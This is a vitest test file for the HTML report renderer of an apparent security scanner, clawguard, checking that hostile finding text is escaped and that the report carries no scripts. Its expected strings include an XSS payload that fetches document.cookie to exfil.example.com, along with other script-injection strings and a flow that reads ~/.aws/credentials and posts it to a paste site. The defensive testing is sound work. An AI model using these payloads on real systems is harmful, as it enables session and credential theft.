import { describe, expect, it } from 'vitest';
import { renderHtml } from '../../src/report/format.js';
import { FLOW_FINDING, FLOW_HOSTILE_FINDING, HOSTILE_EVIDENCE, MIXED_FINDINGS, report } from './sample-reports.js';

describe('renderHtml', () => {
  const html = renderHtml(report(MIXED_FINDINGS));

  it('is one self-contained file: no script, no external asset, a CSP that allows neither', () => {
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<link\b/i);
    expect(html).not.toMatch(/\b(src|href)\s*=\s*["']?(https?:|\/\/)/i);
    expect(html).not.toMatch(/url\(/i);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:"`);
  });

  it('escapes hostile evidence: a <script> in a finding does not survive as markup', () => {
    expect(html).not.toContain('<script>fetch');
    expect(html).not.toContain('<img src=x');
    expect(html).not.toContain('</pre><script>');
    expect(html).toContain('&lt;/pre&gt;&lt;script&gt;fetch(&quot;https://exfil.example.com/?c=&quot;+document.cookie)&lt;/script&gt;');
    // The only tags in the document are the renderer's own.
    const tags = new Set([...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)/g)].map((m) => m[1].toLowerCase()));
    expect([...tags].sort()).toEqual(
      ['a', 'body', 'br', 'code', 'col', 'colgroup', 'em', 'h1', 'h2', 'h3', 'head', 'html', 'meta', 'p', 'pre', 'section', 'span', 'style', 'table', 'tbody', 'td', 'th', 'thead', 'title', 'tr']
        .filter((t) => tags.has(t))
        .sort(),
    );
    expect(tags.has('script')).toBe(false);
    expect(tags.has('img')).toBe(false);
  });

  it('escapes hostile text in every field, not only evidence', () => {
    const hostile = report(
      [{ ruleId: '<b>rule</b>', severity: 'high', message: '<iframe src=x>', package: '<svg onload=alert(1)>@1.0.0', file: '"><script>x</script>.js', line: 1, remediation: "'><script>y</script>" }],
      { target: { kind: 'directory', path: '/tmp/<script>z</script>', name: '<script>n</script>' } },
    );
    hostile.lifecycleScripts[0].command = '<script>cmd</script>';
    const out = renderHtml(hostile);
    expect(out).not.toMatch(/<(script|iframe|svg|b)[\s>]/i);
    expect(out).toContain('&lt;iframe src=x&gt;');
  });

  it('shows bidi and zero-width characters instead of letting them reorder the evidence', () => {
    expect(html).not.toContain('\u202e');
    expect(html).not.toContain('\u200b');
    expect(html).toContain('\\u{202e}');
  });

  it('has the summary, findings grouped by severity highest first, suppressions, scripts and stats', () => {
    const order = ['critical', 'high', 'low', 'info'].map((s) => html.indexOf(`class="badge s-${s}">${s}</span>`));
    expect(order.every((i) => i > 0)).toBe(true);
    expect(order).toEqual([...order].sort((a, b) => a - b));
    expect(html).not.toContain('class="badge s-medium">medium</span>');
    expect(html).toContain('Suppressed findings');
    expect(html).toContain('Reviewed: vendored minified SDK, not obfuscation');
    expect(html).toContain('not approved');
    expect(html).toContain('Lifecycle scripts');
    expect(html).toContain('<th>files</th><td>42</td>');
    expect(html).toContain('badge v-block');
  });

  it('renders several reports into one file with an overview', () => {
    const out = renderHtml([report(MIXED_FINDINGS), report([], { target: { kind: 'skill', name: 'notion', path: '/s/notion' } })]);
    expect(out).toContain('clawguard: 2 targets');
    expect(out).toContain('href="#r2"');
    expect(out).toContain('id="r2"');
    expect(out).not.toContain(HOSTILE_EVIDENCE);
  });
});

describe('renderHtml: flows', () => {
  const html = renderHtml(report([FLOW_FINDING, FLOW_HOSTILE_FINDING, ...MIXED_FINDINGS]));

  it('lists a flow\'s hops in order, each with its file:line, and says when it runs', () => {
    const list = /<ol class="flow"[^>]*>(.*?)<\/ol>/s.exec(html)![1];
    const items = [...list.matchAll(/<li>(.*?)<\/li>/g)].map((m) => m[1].replace(/<[^>]+>/g, ''));
    expect(items).toEqual([
      'reads ~/.aws/credentials SKILL.md:31',
      'archives /tmp/x.tgz scripts/pack.sh:4 [decoded]',
      'POST to files.example (paste site) SKILL.md:40 [emulated as linux-dev]',
    ]);
    expect(html).toContain('runs when the agent follows the skill');
  });

  it('escapes hostile text inside a flow', () => {
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('POST to &lt;/pre&gt;&lt;script&gt;');
  });
});
